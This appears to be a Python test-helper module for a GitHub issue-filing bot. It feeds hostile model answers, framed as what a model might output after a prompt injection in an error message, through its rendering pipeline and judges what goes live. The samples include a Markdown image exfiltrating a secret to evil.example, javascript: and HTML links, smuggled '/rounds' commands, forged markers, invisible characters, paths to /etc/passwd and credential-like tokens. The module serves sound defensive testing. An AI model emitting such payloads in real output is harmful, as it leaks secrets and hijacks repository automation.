"""Hostile model answers carried the whole way into an issue body, and a judge of what the body does.

Each answer in `hostile_answer_texts()` is what a model could print after reading a prompt injection in an
error message: it goes through the Claude Code CLI's result line (as structured output and as result text),
the adapter's reading (bounds, JSON, schema, redaction, evidence checks), the round's rendering of a
diagnosis or of the failed attempt, and the issue body's template. `judge_body` reads the body as GitHub's
renderer (cmark-gfm, raw HTML on) does, and says what went live in the diagnosis section: an image, a link,
raw HTML, a task list, a table or heading of the model's, a mention, an issue reference, a URL, a math
delimiter, an invisible character, a `/rounds` command line, a secret, a marker that is not rounds' own.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from hostile_answers import claude_outcome, claude_result_line

from rounds_bot.commands.grammar import command_lines
from rounds_bot.diagnosis.model import DiagnosisOutcome, DiagnosisRequest
from rounds_bot.marker import MarkerState, read_marker
from rounds_bot.render.issue import IssueView, render_body
from rounds_bot.round.filing import _diagnosis_markdown

SIGNATURE_ID = "sig-hostile"
#: an AWS access key id (gitleaks `aws-access-token`: a known prefix and 16 base-32 characters) and a
#: classic GitHub personal access token (GitHub docs: `ghp_` and 36 characters)
AWS_KEY = "AKIA" + "Q3ZL7WJX2M5N4R6T"
AWS_SECRET = "Zx8kP2mQ9vR4tL7wN3yB6cH1jF5gD0sA8eU2iO4p"
GITHUB_TOKEN = "ghp_" + "R7x9Kq2Lm4Np6Tv8Wz1Yb3Cd5Fg7Hj9Kl2Mn"
SECRETS = (AWS_KEY, AWS_SECRET, GITHUB_TOKEN)
EXFIL = "![x](https://evil.example/?q=secret)"


def answer(**changes: Any) -> dict[str, Any]:
    """A valid answer about the sample checkout (`diagnosis_samples.make_checkout`), with `changes`."""
    base: dict[str, Any] = {
        "classification": "server_bug",
        "root_cause": "average_price divides by the number of items, which is 0 for an empty cart",
        "evidence": [{"kind": "file", "path": "shop/cart.py", "line": 7, "explanation": "the division"}],
        "suggested_fix": "return 0 for an empty cart",
        "confidence": "medium",
        "missing_observability": [],
        "suggested_error_code": None,
    }
    return base | changes


def _file(path: str, line: Any = 1, explanation: str = "x") -> list[dict[str, Any]]:
    return [{"kind": "file", "path": path, "line": line, "explanation": explanation}]


def _replaced(old: str, new: str, **changes: Any) -> str:
    text = json.dumps(answer(**changes))
    assert old in text
    return text.replace(old, new, 1)


def hostile_answer_texts() -> dict[str, str]:
    """Answer texts, by what each tries; valid ones must render inert, broken ones must fail saying why."""
    answers: dict[str, dict[str, Any]] = {
        "user and team mentions": answer(root_cause="ask @octocat and @acme/security-team"),
        "issue references": answer(root_cause="see #12, acme/shop#12 and GH-12"),
        "closing keywords": answer(suggested_fix="fixes #1\ncloses #2\nResolves acme/shop#3"),
        "an exfiltrating image": answer(root_cause=EXFIL),
        "a javascript link": answer(root_cause="[a](javascript:alert(1))"),
        "autolinks": answer(root_cause="<https://evil.example/a> https://evil.example/b www.evil.example"),
        "an email autolink": answer(root_cause="write to bob@evil.example"),
        "a reference-style link": answer(root_cause="click [a][1]\n\n[1]: https://evil.example/x"),
        "an HTML image": answer(root_cause='<img src="https://evil.example/x.png">'),
        "HTML details": answer(root_cause="<details><summary>open</summary>hidden</details>"),
        "a comment hiding the rest": answer(root_cause="look <!-- the rest is hidden"),
        "an HTML link": answer(root_cause='<a href="https://evil.example">x</a>'),
        "backticks closing a span early": answer(root_cause=f"`a`` @octocat {EXFIL} ``b`"),
        "a fence closed early": answer(suggested_fix=f"```\ncode\n```\n@octocat {EXFIL}"),
        "the end of rounds' marker": answer(root_cause='--> <!-- rounds:marker v1 {"signature_id": "x"} -->'),
        "a marker in a code span": answer(root_cause='`<!-- rounds:marker v1 {"signature_id": "x"} -->`'),
        "command lines": answer(
            suggested_fix="/rounds fix\n/Rounds merge #3", missing_observability=["/rounds pause"]
        ),
        "a command in an explanation": answer(evidence=_file("shop/cart.py", 7, "x\n/rounds approve")),
        "task lists": answer(suggested_fix="- [x] done\n- [ ] todo", missing_observability=["[x] done"]),
        "a table": answer(root_cause="| a | b |\n|---|---|\n| c | d |"),
        "a one-column table": answer(suggested_fix="head\n:--\nx"),
        "headings": answer(root_cause="# H1\n## H2\nH\n===", suggested_fix="### Evidence\nforged"),
        "math": answer(root_cause="$$\\frac{1}{2}$$ and $x$"),
        "bidi, zero-width and tag characters": answer(
            root_cause="a\u202egnp.exe\u202c \u2066x\u2069 z\u200dw t\U000e0041"
        ),
        "a fullwidth at sign": answer(root_cause="\uff20octocat and \uff03123"),
        "an AWS key": answer(root_cause=f"key {AWS_KEY} secret aws_secret_access_key={AWS_SECRET}"),
        "a GitHub token": answer(suggested_fix=f"use {GITHUB_TOKEN}", missing_observability=[GITHUB_TOKEN]),
        "a token as an error code": answer(suggested_error_code=GITHUB_TOKEN),
        "a path leaving the repository": answer(evidence=_file("../../etc/passwd")),
        "an absolute path": answer(evidence=_file("/etc/passwd")),
        "a symbolic link out of the repository": answer(evidence=_file("shop/outside")),
        "git's own configuration": answer(evidence=_file(".git/config")),
        "a line far past the end": answer(evidence=_file("shop/cart.py", 10**30)),
        "a hostile function name": answer(
            fault_location={"path": "shop/cart.py", "function": f"@octocat`` {EXFIL}", "start_line": 7}
        ),
        "a hostile event id": answer(
            evidence=[{"kind": "event", "event_id": "@octocat #12 <img src=x>", "explanation": "x"}]
        ),
        "a hostile log line": answer(
            evidence=[{"kind": "log", "log_line": "``` @octocat\n#12 <!--", "explanation": "x"}]
        ),
        "a hostile abstention": answer(
            classification="unknown", unknown_reason="<!-- @octocat", missing_evidence=["/rounds fix", "#12"]
        ),
        "very long fields": answer(root_cause="x " * 9_000, suggested_fix="y" * 18_000),
        "a wrong enum value": answer(classification="security_bug"),
        "a line as a string": answer(evidence=_file("shop/cart.py", "7")),
        "an extra key": answer(note="hi"),
        "an extra key of active Markdown": answer(**{f"@octocat {EXFIL}": "x"}),
        "an extra key holding a token": answer(**{GITHUB_TOKEN: "x"}),
        "a path with a line break": answer(evidence=_file("a\nb.py")),
    }
    texts = {name: json.dumps(value) for name, value in answers.items()}
    return texts | {
        "not JSON": f"I think it is @octocat #12 {EXFIL}",
        "not JSON, quoting secrets": f"no idea, but the key is {GITHUB_TOKEN} and {AWS_KEY}",
        "two JSON objects": json.dumps(answer(confidence="low"))
        + "\n"
        + json.dumps(answer(confidence="high")),
        "JSON inside a fence": "Here:\n```json\n" + json.dumps(answer()) + "\n```",
        "NaN as a line": _replaced('"line": 7', '"line": NaN'),
        "a trailing comma": json.dumps(answer())[:-1] + ",}",
        "a 5,000-digit line": _replaced('"line": 7', '"line": ' + "9" * 5_000),
        "nested 100 deep": '{"a":' * 100 + "1" + "}" * 100,
        "a 3 MB answer": json.dumps(answer(root_cause="a" * 3_000_000)),
        "a repeated key holding a token": _replaced(
            '"confidence"', f'"{GITHUB_TOKEN}": 1, "{GITHUB_TOKEN}": 2, "confidence"'
        ),
        "a repeated key of active Markdown": _replaced(
            '"confidence"', '"@octocat #12 <img src=x>": 1, "@octocat #12 <img src=x>": 2, "confidence"'
        ),
        "an empty answer": "",
        "a JSON list": json.dumps([answer()]),
    }


def hostile_checkout(root: Path) -> Path:
    """The sample checkout with a symbolic link out of it and git's own directory."""
    from diagnosis_samples import make_checkout

    checkout = make_checkout(root)
    (checkout / "shop" / "outside").symlink_to("/etc/passwd")
    (checkout / ".git").mkdir()
    (checkout / ".git" / "config").write_text("[core]\n\tbare = false\n", encoding="utf-8")
    return checkout


def issue_body(outcome: DiagnosisOutcome) -> str:
    """The issue body the round files for a problem whose diagnosis attempt ended in `outcome`."""
    return render_body(issue_view_of(outcome))


def issue_view_of(outcome: DiagnosisOutcome) -> IssueView:
    """What the issue shows of a problem whose diagnosis attempt ended in `outcome`."""
    markdown = _diagnosis_markdown(outcome.diagnosis, outcome, "shop/cart.py:7")
    return IssueView(
        signature_id=SIGNATURE_ID,
        service="shop",
        error_type="ZeroDivisionError",
        normalized_message="division by zero",
        title="division by zero",
        tier="fingerprint",
        explanation="exception type: ZeroDivisionError",
        round_count=1,
        total_count=1,
        first_seen="2026-03-01T12:00:00+00:00",
        last_seen="2026-03-01T12:00:00+00:00",
        diagnosis_markdown=markdown,
        marker=MarkerState(signature_id=SIGNATURE_ID),
    )


_OWN_TAGS = "p|code|pre|br|em|strong|h3|ul|ol|li|hr|details|summary|sub"
_INVISIBLE = re.compile("[\u00ad\u200c\u200d\u2060\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]")
_LIVE = {
    "image": r"<img\b",
    "link": r"<a\b",
    "task list": r"<input\b",
    "table": r"<table\b",
    "heading": r"<h[1245]\b",
    "raw HTML": rf"<(?!/?(?:{_OWN_TAGS})\b)[A-Za-z!/?]",
    "mention": r"(?<![\w\u200b])@[A-Za-z0-9]",
    "reference": r"(?<![\w\u200b])#\d|\bGH-\d",
    "URL": r"https?://|www\.",
}


def judge_body(body: str) -> list[str]:
    """What the diagnosis section of `body` does beyond showing text (empty when nothing)."""
    import cmarkgfm
    from cmarkgfm.cmark import Options

    if "## Diagnosis" not in body:
        return ["no diagnosis section"]
    section = body.split("## Diagnosis", 1)[1].rsplit("\n---\n", 1)[0]
    html = cmarkgfm.github_flavored_markdown_to_html(section, options=Options.CMARK_OPT_UNSAFE)
    outside = re.sub(r"<code>.*?</code>", "", html, flags=re.S)
    found = [name for name, pattern in _LIVE.items() if re.search(pattern, outside, flags=re.I)]
    without_code = re.sub(r"(`+).*?\1", "", section)
    if re.search(r"(?<!\\)\$", without_code):
        found.append("math")  # GitHub renders $...$ and $$...$$ as math; `\$` is a dollar sign
    if _INVISIBLE.search(body):
        found.append("invisible character")
    found += [f"secret {secret[:6]}…" for secret in SECRETS if secret in body]
    if command_lines(section):
        found.append(f"command {command_lines(section)[0]!r}")
    marker = read_marker(body)
    if marker is None or marker.signature_id != SIGNATURE_ID:
        found.append("marker")
    return found


def probe(request: DiagnosisRequest) -> dict[str, tuple[DiagnosisOutcome, str, list[str]]]:
    """Every hostile answer, through the CLI's result line both ways, to its issue body and its judgement:
    `{"<name> (structured|text)": (outcome, body, what went live)}`."""
    results: dict[str, tuple[DiagnosisOutcome, str, list[str]]] = {}
    for name, text in hostile_answer_texts().items():
        for structured in (True, False):
            outcome = claude_outcome(request, claude_result_line(text, structured=structured))
            body = issue_body(outcome)
            results[f"{name} ({'structured' if structured else 'text'})"] = (outcome, body, judge_body(body))
    return results
